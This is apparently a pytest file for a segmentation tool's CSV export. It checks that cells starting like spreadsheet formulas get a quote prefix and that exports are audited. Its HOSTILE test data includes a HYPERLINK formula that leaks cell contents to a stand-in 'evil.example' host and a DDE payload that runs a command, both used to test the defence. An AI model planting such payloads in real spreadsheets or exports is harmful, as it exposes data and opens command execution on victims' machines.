"""CSV exports neutralise formula injection: the shared writer and `segflow
segments members NAME --csv`, read back with Python's csv module as a
spreadsheet would parse it."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from core.cli import main
from core.csv_export import safe_cell, write_csv
from core.db import open_db
from core.ingestion import ingest

HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1,1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "fullwidth": "＝1+1",
}


@pytest.mark.parametrize("label", sorted(HOSTILE))
def test_a_cell_starting_like_a_formula_gets_a_quote_and_keeps_its_text(label):
    text = HOSTILE[label]
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("Ada", "Ada"),
        ("a=b", "a=b"),  # only the first character makes a formula
        (-5, -5),  # a number is no formula
        (2.5, 2.5),
        (None, ""),
        (True, "true"),
        (["=x"], '["=x"]'),
        ({"k": "-1"}, '{"k": "-1"}'),
        (datetime(2026, 3, 1, tzinfo=UTC), "2026-03-01T00:00:00+00:00"),
    ],
)
def test_other_cells_are_written_as_they_are(value, cell):
    assert safe_cell(value) == cell


def test_the_writer_neutralises_header_and_rows_and_quotes_what_csv_needs():
    buf = io.StringIO()
    rows = [["=1+1", 'say "hi", then\nleave', -3], ["ok", None, 4.5]]
    assert write_csv(buf, ["id", "@trait", "n"], rows) == 2
    back = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert back == [
        ["id", "'@trait", "n"],
        ["'=1+1", 'say "hi", then\nleave', "-3"],
        ["ok", "", "4.5"],
    ]
    assert buf.getvalue().endswith("\r\n")


@pytest.fixture
def db(tmp_path, fresh_sqlite) -> str:
    url = fresh_sqlite()
    events = [
        {
            "type": "identify",
            "user_id": f"u{i}",
            "email": f"u{i}@example.com",
            "ts": "2026-03-01T10:00:00Z",
            "traits": {"first_name": text, "plan": "pro", "address": {"city": "-Paris"}},
        }
        for i, text in enumerate(HOSTILE.values())
    ]
    events += [
        {"type": "purchase", "user_id": f"u{i}", "ts": "2026-03-02T10:00:00Z", "value": 10.0}
        for i in range(len(HOSTILE))
    ]
    events.append({"type": "page_view", "user_id": "=not_a_buyer", "ts": "2026-03-02T10:00:00Z"})
    # A buyer whose user id itself is hostile.
    events.append({"type": "purchase", "user_id": "@evil", "ts": "2026-03-02T11:00:00Z"})
    report = ingest(open_db(url), events)
    assert report.accepted == len(events), report.rejected
    segments = tmp_path / "segments"
    segments.mkdir()
    (segments / "buyers.yaml").write_text("name: buyers\nrule: {event: purchase, within: 30d}\n")
    run = ["--db", url, "segments", "run", "--dir", str(segments), "--as-of"]
    assert main([*run, "2026-03-03T00:00:00Z"]) == 0
    return url


def test_segment_members_csv_holds_email_and_traits_with_every_formula_neutralised(
    db, tmp_path, capsys
):
    capsys.readouterr()
    target = tmp_path / "buyers.csv"
    args = ["--db", db, "segments", "members", "buyers", "--csv", "-o", str(target)]
    assert main([*args, "--trait", "first_name", "--trait", "address.city", "--trait", "x"]) == 0
    assert f"{len(HOSTILE) + 1} members written to {target}" in capsys.readouterr().err
    with target.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0]) == ["id", "email", "since", "first_name", "address.city", "x"]
    by_id = {r["id"]: r for r in rows}
    assert set(by_id) == {f"u{i}" for i in range(len(HOSTILE))} | {"'@evil"}
    for i, text in enumerate(HOSTILE.values()):
        row = by_id[f"u{i}"]
        assert row["first_name"] == "'" + text
        assert (row["email"], row["address.city"], row["x"]) == (
            f"u{i}@example.com",
            "'-Paris",
            "",
        )
        assert row["since"].startswith("2026-03-0")
    # The export is audited: who, which segment, rows and columns, no one's data.
    from core.audit import list_records

    (audited,) = list_records(open_db(db), action="segment.export")
    assert (audited.target, audited.details) == (
        "buyers",
        {"rows": len(rows), "columns": list(rows[0])},
    )
    # No cell of the file starts like a formula.
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (row, cell)


def test_segment_members_csv_to_stdout_and_bad_options(db, capsys):
    capsys.readouterr()
    assert main(["--db", db, "segments", "members", "buyers", "--csv"]) == 0
    captured = capsys.readouterr()
    rows = list(csv.reader(io.StringIO(captured.out, newline="")))
    assert rows[0] == ["id", "email", "since"] and len(rows) == len(HOSTILE) + 2
    # As of a time before anyone bought: evaluated then, nobody.
    assert (
        main(
            [
                "--db",
                db,
                "segments",
                "members",
                "buyers",
                "--csv",
                "--as-of",
                "2026-02-01T00:00:00Z",
            ]
        )
        == 0
    )
    assert capsys.readouterr().out == "id,email,since\r\n"
    assert main(["--db", db, "segments", "members", "buyers", "--trait", "plan"]) == 2
    assert "--trait and --output go with --csv" in capsys.readouterr().err
    assert main(["--db", db, "segments", "members", "nope", "--csv"]) == 1
    assert "no segment named 'nope'" in capsys.readouterr().err
